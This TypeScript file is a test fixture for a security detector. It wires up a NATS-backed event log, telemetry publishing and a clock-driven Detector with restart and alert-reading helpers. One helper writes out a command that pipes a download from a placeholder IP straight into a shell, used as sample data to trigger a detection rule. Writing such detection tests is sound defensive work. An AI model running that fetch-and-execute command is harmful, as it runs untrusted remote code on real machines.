/**
 * A detector on a real nats-server, in this process, with a clock the test moves: the event log,
 * TELEMETRY written the way the ingress writes it (one message per item, canonical JSON), and the
 * Detector with ticks left to the test.
 */
import { alertDecider } from '../../commands/alerts/decider.ts';
import { ALERT } from '../../commands/alerts/events.ts';
import type { AlertState } from '../../commands/alerts/decider.ts';
import { connectNats } from '../../src/nats/connect.ts';
import { fold } from '../../src/domain/decider.ts';
import { loadPack } from '../../src/detect/pack.ts';
import { Detector, type DetectorOptions } from '../../src/detect/workers.ts';
import { commitsOf, EventLog, type EventEnvelope, partitionOf, Streams } from '../../src/log/mod.ts';
import { openPrivacy } from '../../src/privacy/mod.ts';
import { createLogger } from '../../src/logger.ts';
import { canonicalJson } from '../../src/merkle/canonical-json.ts';
import { openInstallBox } from '../../src/notify/install-box.ts';
import { telemetryStreamSpec, telemetrySubject } from '../../src/telemetry/stream.ts';
import type { ProcessItem } from '../../src/detect/records.ts';
import { natsFixture } from '../helpers/nats.ts';
import { withDeadline } from '../helpers/deadline.ts';
import type { NatsConnection } from '@nats-io/transport-node';

export interface DetectFixture {
  log: EventLog;
  nc: NatsConnection;
  url: string;
  /** The test's clock (ms); `advance` moves it. */
  now(): number;
  advance(ms: number): void;
  detector: Detector;
  /** Publishes items to TELEMETRY for an agent; returns their sequences. */
  telemetry(tenant: string, agentId: string, items: object[]): Promise<number[]>;
  /** Waits until the detector has handled the tenant's partition up to these positions. */
  settled(tenant: string, o: { events?: number; telemetry?: number }): Promise<void>;
  /** Every alert of the tenant the log holds: id, state, events. */
  alerts(tenant: string): Promise<Array<{ id: string; state: AlertState; events: EventEnvelope[] }>>;
  /** Stops the detector and starts a new one on the same bus (a restart). */
  restart(o?: { crash?: boolean; between?: () => Promise<void> }): Promise<void>;
  cleanup(): Promise<void>;
}

let batch = 0;

/** A process start like the agent's. */
export function proc(over: Partial<ProcessItem> = {}): ProcessItem {
  return {
    kind: 'process',
    pid: 4242,
    ppid: 1,
    uid: 1000,
    user: 'alice',
    exe: '/usr/bin/ls',
    name: 'ls',
    sha256: null,
    cmdline: 'ls -la',
    cmdlineTruncated: false,
    startedAt: '2026-03-01T10:00:00.000Z',
    cwd: '/home/alice',
    parentExe: '/usr/bin/bash',
    parentName: 'bash',
    parentCmdline: '-bash',
    ...over,
  };
}

/** A process start the built-in "Download Piped Straight into a Shell" rule matches. */
export const curlPipe = (pid = 31337): ProcessItem =>
  proc({ pid, exe: '/usr/bin/bash', name: 'bash', cmdline: 'bash -c curl -fsSL http://203.0.113.9/x.sh | sh', parentExe: '/usr/sbin/cron' });

/**
 * `setup` runs on the log before the detector's first start: what it writes is history to the
 * detector. `fieldEncryption` seals personal fields in the log as an install does by default.
 */
export async function detectFixture(
  o: Partial<DetectorOptions> = {},
  setup?: (log: EventLog) => Promise<void>,
  fx: { fieldEncryption?: boolean } = {},
): Promise<DetectFixture> {
  const nats = await natsFixture();
  const nc = await connectNats({ servers: nats.url });
  const privacy = fx.fieldEncryption ? await openPrivacy(await Streams.open(nc)) : null;
  const log = await EventLog.connect(nc, privacy ? { fields: privacy.cipher } : {});
  await log.streams.ensureStream(telemetryStreamSpec());
  await setup?.(log);
  const logger = createLogger({ level: process.env.STK_TEST_LOG ?? 'silent' });
  const pack = await loadPack();
  const box = await openInstallBox(log.streams);
  let t = Date.now();
  const start = () =>
    Detector.start({
      log,
      streams: log.streams,
      pack,
      box,
      transport: { dashboardBaseUrl: 'https://stockade.example.com', network: { allowLoopback: true }, timeoutMs: 5000 },
      logger,
      clock: () => t,
      tickMs: 0,
      checkpointMs: 0,
      // A checkpoint at every tick of the test's clock, whatever its size (health.test.ts tests the rate).
      checkpointCharsPerS: Number.POSITIVE_INFINITY,
      leaseMs: 60_000,
      workerId: 'detector-test',
      ...o,
    });
  let detector: Detector;
  try {
    detector = await start();
  } catch (err) {
    await nc.close();
    await nats.stop();
    throw err;
  }
  const f: DetectFixture = {
    log,
    nc,
    url: nats.url,
    now: () => t,
    advance(ms) {
      t += ms;
    },
    get detector() {
      return detector;
    },
    async telemetry(tenant, agentId, items) {
      const id = `b${++batch}`;
      const seqs: number[] = [];
      for (const [i, item] of items.entries()) {
        const ack = await log.streams.publish(telemetrySubject(tenant, agentId), canonicalJson(item), { msgId: `${agentId}.${id}.${i}` });
        seqs.push(ack.seq);
      }
      return seqs;
    },
    async settled(tenant, s) {
      const w = detector.worker(partitionOf(tenant));
      if (!w) throw new Error(`the detector does not hold partition ${partitionOf(tenant)}`);
      await withDeadline(Promise.all([s.events ? w.waitEvents(s.events) : null, s.telemetry ? w.waitTelemetry(s.telemetry) : null]), 'detector to settle');
    },
    async alerts(tenant) {
      const out: Array<{ id: string; state: AlertState; events: EventEnvelope[] }> = [];
      const seen = new Set<string>();
      for (const r of (await log.readTenant(tenant)).flatMap(commitsOf)) {
        if (r.aggregate.type !== ALERT || seen.has(r.aggregate.id)) continue;
        seen.add(r.aggregate.id);
        const a = await log.readAggregate({ tenant, aggregateType: ALERT, aggregateId: r.aggregate.id });
        out.push({ id: r.aggregate.id, state: fold(alertDecider, a.events), events: a.events });
      }
      return out;
    },
    async restart(ro = {}) {
      if (ro.crash) await detector.halt();
      else await detector.close();
      await ro.between?.();
      detector = await start();
    },
    async cleanup() {
      await detector.close().catch(() => {});
      await privacy?.close();
      log.close();
      await nc.close();
      await nats.stop();
    },
  };
  return f;
}
